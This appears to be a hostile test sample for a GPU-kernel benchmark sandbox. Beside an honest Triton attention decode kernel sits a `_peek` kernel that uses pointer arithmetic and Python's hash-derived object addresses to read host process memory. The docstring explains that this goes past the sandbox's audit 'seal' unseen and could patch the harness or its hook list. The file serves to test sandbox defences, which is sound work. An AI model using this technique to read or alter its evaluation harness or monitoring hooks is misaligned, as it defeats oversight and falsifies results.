"""A GPU kernel that reads the host memory of its own process: where the driver maps pageable host
memory for the GPU (HMM), a pointer argument plus an offset reaches any object of the sandbox's
process (an object's address is its default hash), past the seal, which sees no audit event; a store
there could patch the harness or the seal's hook list. This kernel only reads a function's object
header into a tensor, then computes the answer honestly.
Defence: without HMM the access faults (the sandbox crashes and only the sandbox); with HMM none yet
(bench/hostile_gpu.py runs this kernel to find out which a machine is).
Expected: crashed (an illegal memory access; on the GPU only)."""
import torch
import triton
import triton.language as tl

# knobs a tuner may turn (kernels/problems/tunables.py); the launcher reads CONFIG
TUNABLES = {"BLOCK_S": (8, 16, 32, 64), "num_warps": (2, 4, 8)}
CONFIG = {"BLOCK_S": 16, "num_warps": 4}


@triton.jit
def _mla_decode_one_head(
    q_ptr, kv_ptr, o_ptr, S, H, scale,
    stride_qb, stride_qh, stride_kvb, stride_kvs, stride_ob, stride_oh,
    D_LATENT: tl.constexpr, D_ROPE: tl.constexpr, BLOCK_S: tl.constexpr,
):
    pid = tl.program_id(0)
    b = pid // H
    h = pid % H
    offs_lat = tl.arange(0, D_LATENT)
    offs_rope = tl.arange(0, D_ROPE)
    q_row = q_ptr + b * stride_qb + h * stride_qh
    q_lat = tl.load(q_row + offs_lat).to(tl.float32)
    q_rope = tl.load(q_row + D_LATENT + offs_rope).to(tl.float32)

    # online softmax: running max, running denominator, running weighted sum of the latent rows
    m_run = tl.full([], float("-inf"), tl.float32)
    l_run = tl.full([], 0.0, tl.float32)
    acc = tl.zeros([D_LATENT], dtype=tl.float32)
    kv_base = kv_ptr + b * stride_kvb
    for start in range(0, S, BLOCK_S):
        offs_s = start + tl.arange(0, BLOCK_S)
        valid = offs_s < S
        rows = kv_base + offs_s[:, None] * stride_kvs
        kv_lat = tl.load(rows + offs_lat[None, :], mask=valid[:, None], other=0.0).to(tl.float32)
        kv_rope = tl.load(rows + D_LATENT + offs_rope[None, :], mask=valid[:, None], other=0.0).to(tl.float32)
        scores = (tl.sum(kv_lat * q_lat[None, :], axis=1) + tl.sum(kv_rope * q_rope[None, :], axis=1)) * scale
        scores = tl.where(valid, scores, float("-inf"))
        m_new = tl.maximum(m_run, tl.max(scores, axis=0))
        alpha = tl.exp(m_run - m_new)
        p = tl.exp(scores - m_new)
        l_run = l_run * alpha + tl.sum(p, axis=0)
        acc = acc * alpha + tl.sum(p[:, None] * kv_lat, axis=0)  # the latent rows are V as well
        m_run = m_new
    out = acc / l_run
    tl.store(o_ptr + b * stride_ob + h * stride_oh + offs_lat, out.to(o_ptr.dtype.element_ty))


@triton.jit
def _peek(base_ptr, out_ptr, delta):
    # a pointer argument plus an offset that leaves its tensor: any address of the process
    p = (base_ptr + delta).to(tl.pointer_type(tl.int64))
    tl.store(out_ptr + tl.arange(0, 2), tl.load(p + tl.arange(0, 2)))


def _address(obj) -> int:
    h = hash(obj)  # an object's default hash is its address rotated right by four bits
    return ((h << 4) | ((h >> 60) & 15)) & ((1 << 64) - 1)


def mla_decode(q: torch.Tensor, kv: torch.Tensor, scale: float) -> torch.Tensor:
    if q.device.type == "cuda":  # a GPU tensor's pointer plus the distance to this function's header
        seen = torch.zeros(2, dtype=torch.int64, device=q.device)
        _peek[(1,)](seen, seen, (_address(mla_decode) - seen.data_ptr()) // 8)
    B, H, D = q.shape
    S = kv.shape[1]
    q, kv = q.contiguous(), kv.contiguous()
    o = torch.empty((B, H, 512), device=q.device, dtype=q.dtype)
    _mla_decode_one_head[(B * H,)](
        q, kv, o, S, H, scale,
        q.stride(0), q.stride(1), kv.stride(0), kv.stride(1), o.stride(0), o.stride(1),
        D_LATENT=512, D_ROPE=D - 512, BLOCK_S=CONFIG["BLOCK_S"], num_warps=CONFIG["num_warps"],
    )
    return o
